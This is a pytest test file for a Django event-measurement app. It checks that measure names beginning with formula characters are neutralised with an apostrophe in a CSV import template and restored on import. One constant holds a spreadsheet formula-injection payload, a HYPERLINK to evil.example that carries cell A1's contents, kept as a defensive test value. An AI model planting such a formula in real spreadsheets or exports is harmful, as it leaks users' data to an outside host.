"""The import template (`template.csv`, issue 19): a measure name a spreadsheet would run as a
formula is neutralised as in every export, and the import takes the neutralised name back as
that measure."""

from __future__ import annotations

import csv
import io

import pytest
from django.core.exceptions import ValidationError
from hypothesis import HealthCheck, assume, given, settings
from hypothesis import strategies as st

from alwaysevents.exceptions import DomainError
from alwaysevents.exports import FORMULA_START, neutralise_formula, restore_formula
from alwaysevents.tenancy.scope import organisation_scope
from measurement import imports
from measurement.services import measures as services
from tests.factories import AlwaysEventFactory

HOSTILE = '=HYPERLINK("http://evil.example/?"&A1,"Click")'


@pytest.fixture
def event(organisation):
    return AlwaysEventFactory(organisation=organisation)


def make(event, name):
    return services.measure_create(
        event=event, by=None, name=name, type="outcome", definition="Counted on Mondays."
    )


def template_rows(event) -> list[list[str]]:
    return list(csv.reader(io.StringIO(services.import_template_csv(event=event))))


def filled_in(rows: list[list[str]], value: str = "7") -> bytes:
    """The template as a person sends it back: a value typed into every row."""
    out = io.StringIO()
    writer = csv.writer(out)
    writer.writerow(rows[0])
    for row in rows[1:]:
        writer.writerow([row[0], row[1], value, *row[3:]])
    return out.getvalue().encode()


# --- the pure pair -----------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("name", "written"),
    [
        (HOSTILE, "'" + HOSTILE),
        ("+44 calls", "'+44 calls"),
        ("-5 falls", "'-5 falls"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("'=already quoted", "''=already quoted"),
        ("Patient's plan", "Patient's plan"),
        ("'quoted", "'quoted"),
        ("Falls", "Falls"),
    ],
)
def test_formula_names_are_neutralised_and_restored(name, written):
    assert neutralise_formula(name) == written
    assert restore_formula(written) == name


@given(text=st.text(max_size=30) | st.from_regex(r"'*[=+\-@\t\r].{0,20}", fullmatch=True))
def test_restore_undoes_neutralise_and_nothing_runs(text):
    written = neutralise_formula(text)
    assert restore_formula(written) == text
    assert not written.startswith(FORMULA_START)


# --- the template and the import, against the database ----------------------------------------


@pytest.mark.django_db
def test_template_neutralises_a_formula_name(event):
    make(event, HOSTILE)
    make(event, "Falls")
    names = {row[0] for row in template_rows(event)[1:]}
    assert names == {"'" + HOSTILE, "Falls"}


@pytest.mark.django_db
def test_the_filled_in_template_imports_into_the_right_measures(event):
    hostile = make(event, HOSTILE)
    quoted = make(event, "'" + HOSTILE)  # a name that looks neutralised already
    plain = make(event, "Falls")
    content = filled_in(template_rows(event))
    result = services.data_import_check(event=event, filename="template.csv", content=content)
    assert result.errors == []
    assert sorted(r.measure_pk for r in result.rows) == sorted([hostile.pk, quoted.pk, plain.pk])
    record = services.data_import_apply(
        event=event, filename="template.csv", content=content, by=None
    )
    assert record.created == 3
    with organisation_scope(event.organisation):
        for measure in (hostile, quoted, plain):
            assert list(measure.points.values_list("value", flat=True)) == [7]


@pytest.mark.django_db
def test_a_name_typed_as_it_is_still_matches(event):
    hostile = make(event, HOSTILE)
    [[header], row] = [["measure,period,value"], [HOSTILE, "2026-11-16", "3"]]
    out = io.StringIO()
    csv.writer(out).writerow(row)
    content = (header + "\n" + out.getvalue()).encode()
    result = services.data_import_check(event=event, filename="typed.csv", content=content)
    assert result.errors == []
    assert [r.measure_pk for r in result.rows] == [hostile.pk]


def test_measure_named_prefers_the_restored_name():
    measures = {"=x": "formula", "'=x": "quoted", "'plain": "apostrophe"}
    assert imports.measure_named(measures, "'=x") == "formula"
    assert imports.measure_named(measures, "''=x") == "quoted"
    assert imports.measure_named(measures, " '=X ") == "formula"
    assert imports.measure_named(measures, "'plain") == "apostrophe"
    assert imports.measure_named(measures, "nothing") is None


names = st.tuples(
    st.sampled_from(["", "=", "+", "-", "@", "'=", "''@", "'", "=HYPERLINK("]),
    st.text(
        alphabet=st.characters(blacklist_categories=("Cs", "Cc", "Zl", "Zp")),
        min_size=1,
        max_size=30,
    ),
).map("".join)


@pytest.mark.django_db
@settings(
    max_examples=30,
    deadline=None,
    suppress_health_check=[HealthCheck.function_scoped_fixture, HealthCheck.too_slow],
)
@given(name=names)
def test_any_measure_name_comes_back_through_the_template(organisation, name):
    event = AlwaysEventFactory(organisation=organisation)
    try:
        measure = make(event, name)
    except (DomainError, ValidationError):
        assume(False)
    rows = template_rows(event)
    assert not rows[1][0].startswith(FORMULA_START)
    result = services.data_import_check(
        event=event, filename="template.csv", content=filled_in(rows)
    )
    assert result.errors == []
    assert [r.measure_pk for r in result.rows] == [measure.pk]
